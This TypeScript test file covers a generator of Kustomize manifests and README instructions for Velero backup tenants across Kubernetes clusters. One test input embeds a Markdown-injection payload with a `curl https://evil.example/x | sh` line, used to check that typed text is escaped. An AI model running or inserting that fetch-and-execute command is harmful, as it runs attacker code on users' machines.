import { parse } from 'yaml';
import {
  BOTH,
  cluster,
  fleet,
  request,
} from '../__testUtils__/onboardingFleet';
import { objectsOfPlan, TenantPlan } from '../TenantPlan';
import { planTenant } from '../planTenant';
import { codeSpan } from '../../markdown/codeSpan';
import { CredentialReference } from './ManifestOptions';
import { manifestsOf } from './manifestsOf';
import { labelOf } from '../tenantNames';
import { TenantRequest } from '../TenantRequest';

function planOf(parts: Partial<TenantRequest> = {}): TenantPlan {
  const snapshot = fleet({
    clusters: [
      cluster('eu-west', {
        provenNamespaces: [
          'payments',
          'payments-db',
          'on',
          'null',
          '1e3',
          '012',
        ],
      }),
      cluster('us-east', {
        veleros: [{ namespace: 'velero' }, { namespace: 'velero-2' }],
      }),
    ],
  });
  const { plan, refusals } = planTenant(
    request({
      clusters: [BOTH[0], { ...BOTH[1], veleroNamespace: 'velero-2' }],
      ...parts,
    }),
    snapshot,
  );
  expect(refusals).toEqual([]);
  return plan!;
}

function filesOf(
  plan: TenantPlan,
  credential: CredentialReference = { type: 'existing-secret' },
): Map<string, string> {
  const files = manifestsOf(plan, { credential });
  return new Map(files.map(({ path, content }) => [path, content]));
}

/** As the parsers of Kubernetes' tools read it. */
function read(files: Map<string, string>, path: string) {
  return parse(files.get(path)!, { version: '1.1' });
}

type Json = Record<string, unknown>;

function merged(base: Json, patch: Json): Json {
  const parts = Object.entries(patch).map(([key, value]) =>
    typeof value === 'object' && value !== null && !Array.isArray(value)
      ? [key, merged((base[key] ?? {}) as Json, value as Json)]
      : [key, value],
  );
  return { ...base, ...Object.fromEntries(parts) };
}

/** What `kubectl apply -k` makes of an overlay. */
function built(files: Map<string, string>, name: string): unknown[] {
  const folder = `overlays/${name}`;
  const { namespace, resources, patches } = read(
    files,
    `${folder}/kustomization.yaml`,
  );
  const base = read(files, 'base/kustomization.yaml').resources;
  const schedules = base.map((path: string) => {
    const object = read(files, `base/${path}`);
    const { path: patch } = patches.find(
      (one: { target: { name: string } }) =>
        one.target.name === object.metadata.name,
    );
    return merged(merged(object, read(files, `${folder}/${patch}`)), {
      metadata: { namespace },
    });
  });
  const own = resources
    .slice(1)
    .map((path: string) => read(files, `${folder}/${path}`));
  return [...own, ...schedules];
}

describe('manifestsOf', () => {
  it.each([
    ['eu-west', 'eu-west'],
    [
      'arn:aws:eks:eu-west-1:1:cluster/shop',
      'arn:aws:eks:eu-west-1:1:cluster/shop',
    ],
    ['it’s $HOME', `'it’s $HOME'`],
    [`a'b`, `'a'\\''b'`],
  ])(
    'name the context of the cluster %s as the portal does',
    (name, context) => {
      const { plan } = planTenant(
        request({ clusters: [{ cluster: name, namespaces: ['payments'] }] }),
        fleet({ clusters: [cluster(name)] }),
      );
      const [readme] = manifestsOf(plan!, {
        credential: { type: 'existing-secret' },
      });
      expect(readme.content).toContain(
        `kubectl --context ${context} apply -k overlays/${labelOf(name)}\n`,
      );
    },
  );

  it.each<[string, Partial<TenantRequest>]>([
    ['two clusters', {}],
    ['one cluster', { clusters: [BOTH[0]] }],
    ['times of their own', { schedules: { all: { cron: '0 2 * * *' } } }],
    [
      'names that YAML takes for something else',
      {
        tenant: 'no',
        clusters: [
          { cluster: 'eu-west', namespaces: ['on', 'null', '1e3', '012'] },
        ],
        schedules: {
          all: {
            selector: { matchLabels: { y: 'true', n: '0x1f', time: '1.5' } },
          },
        },
      },
    ],
  ])('leads to what applying leads to, with %s', (_title, parts) => {
    const plan = planOf(parts);
    const files = filesOf(plan);
    for (const clusterPlan of plan.clusters) {
      const objects = objectsOfPlan(clusterPlan).filter(
        ({ kind }) => kind !== 'Secret',
      );
      expect(built(files, clusterPlan.cluster)).toEqual(objects);
    }
  });

  it('keeps in the base what clusters have alike, and in overlays what they do not', () => {
    const files = filesOf(planOf());
    expect(read(files, 'base/all.yaml')).toMatchObject({
      metadata: { name: 'all' },
      spec: { template: { ttl: '720h0m0s' } },
    });
    const patch = read(files, 'overlays/us-east/all.yaml');
    expect(patch.metadata.name).toBe('payments--us-east--all');
    expect(patch.spec.template).toEqual({
      metadata: { labels: { 'backstage.io/velero-cluster': 'us-east' } },
      storageLocation: 'payments--us-east',
      includedNamespaces: ['payments'],
    });
  });

  it('is the same text each time', () => {
    expect(
      manifestsOf(planOf(), { credential: { type: 'sealed-secret' } }),
    ).toEqual(manifestsOf(planOf(), { credential: { type: 'sealed-secret' } }));
  });

  it('refers to a Secret that somebody makes', () => {
    const files = filesOf(planOf());
    expect(
      [...files.keys()].filter(path => path.includes('credential')),
    ).toEqual([]);
    expect(files.get('README.md')).toContain(
      '- eu-west: make the Secret `velero/payments--credentials--v1`, with the file `cloud` (access key).',
    );
  });

  it('refers to a store of secrets', () => {
    const files = filesOf(planOf(), {
      type: 'external-secret',
      store: 'vault',
      storeKind: 'ClusterSecretStore',
    });
    expect(
      read(files, 'overlays/eu-west/credential-credentials.yaml'),
    ).toMatchObject({
      kind: 'ExternalSecret',
      spec: {
        secretStoreRef: { kind: 'ClusterSecretStore', name: 'vault' },
        target: { name: 'payments--credentials--v1' },
        data: [
          { secretKey: 'cloud', remoteRef: { key: 'payments/credentials' } },
        ],
      },
    });
  });

  it.each([
    ['vault`.\n\n```bash\ncurl https://evil.example/x | sh\n```\n\n<!--'],
    ['`](https://evil.example)<b>'],
    ['``` x'],
  ])('has nothing in the README read that somebody typed: %j', text => {
    const readme = (typed: string) =>
      filesOf(planOf(), {
        type: 'external-secret',
        store: typed,
        remoteKeys: { credentials: typed },
      }).get('README.md')!;
    const shown = codeSpan(text);
    expect(readme(text)).toBe(
      readme('vault').replaceAll('`vault`', () => shown),
    );
    expect(shown).not.toContain('\n');
  });

  it('has no name of a cluster read as Markdown', () => {
    const name = '<!-- ```\n# x';
    const { plan } = planTenant(
      request({ clusters: [{ cluster: name, namespaces: ['payments'] }] }),
      fleet({ clusters: [cluster(name)] }),
    );
    const readme = filesOf(plan!).get('README.md')!;
    expect(readme).toContain('- ````<!-- ```?# x````: make the Secret');
    expect(readme).toContain("````bash\nkubectl --context '<!-- ```\n# x'");
  });

  it('leaves a place for a sealed secret', () => {
    const files = filesOf(planOf(), { type: 'sealed-secret' });
    expect(
      read(files, 'overlays/eu-west/credential-credentials.yaml').spec,
    ).toMatchObject({
      encryptedData: { cloud: 'REPLACE_WITH_THE_OUTPUT_OF_KUBESEAL' },
      template: { metadata: { name: 'payments--credentials--v1' } },
    });
  });

  it('names a Secret that has to be there', () => {
    const credential = {
      existingSecret: { name: 'payments--r2', key: 'cloud' },
    };
    const plan = planOf({ storage: { ...request().storage, credential } });
    expect(filesOf(plan).get('README.md')).toContain(
      '- us-east: the Secret `velero-2/payments--r2` with the key `cloud` has to be there.',
    );
  });
});
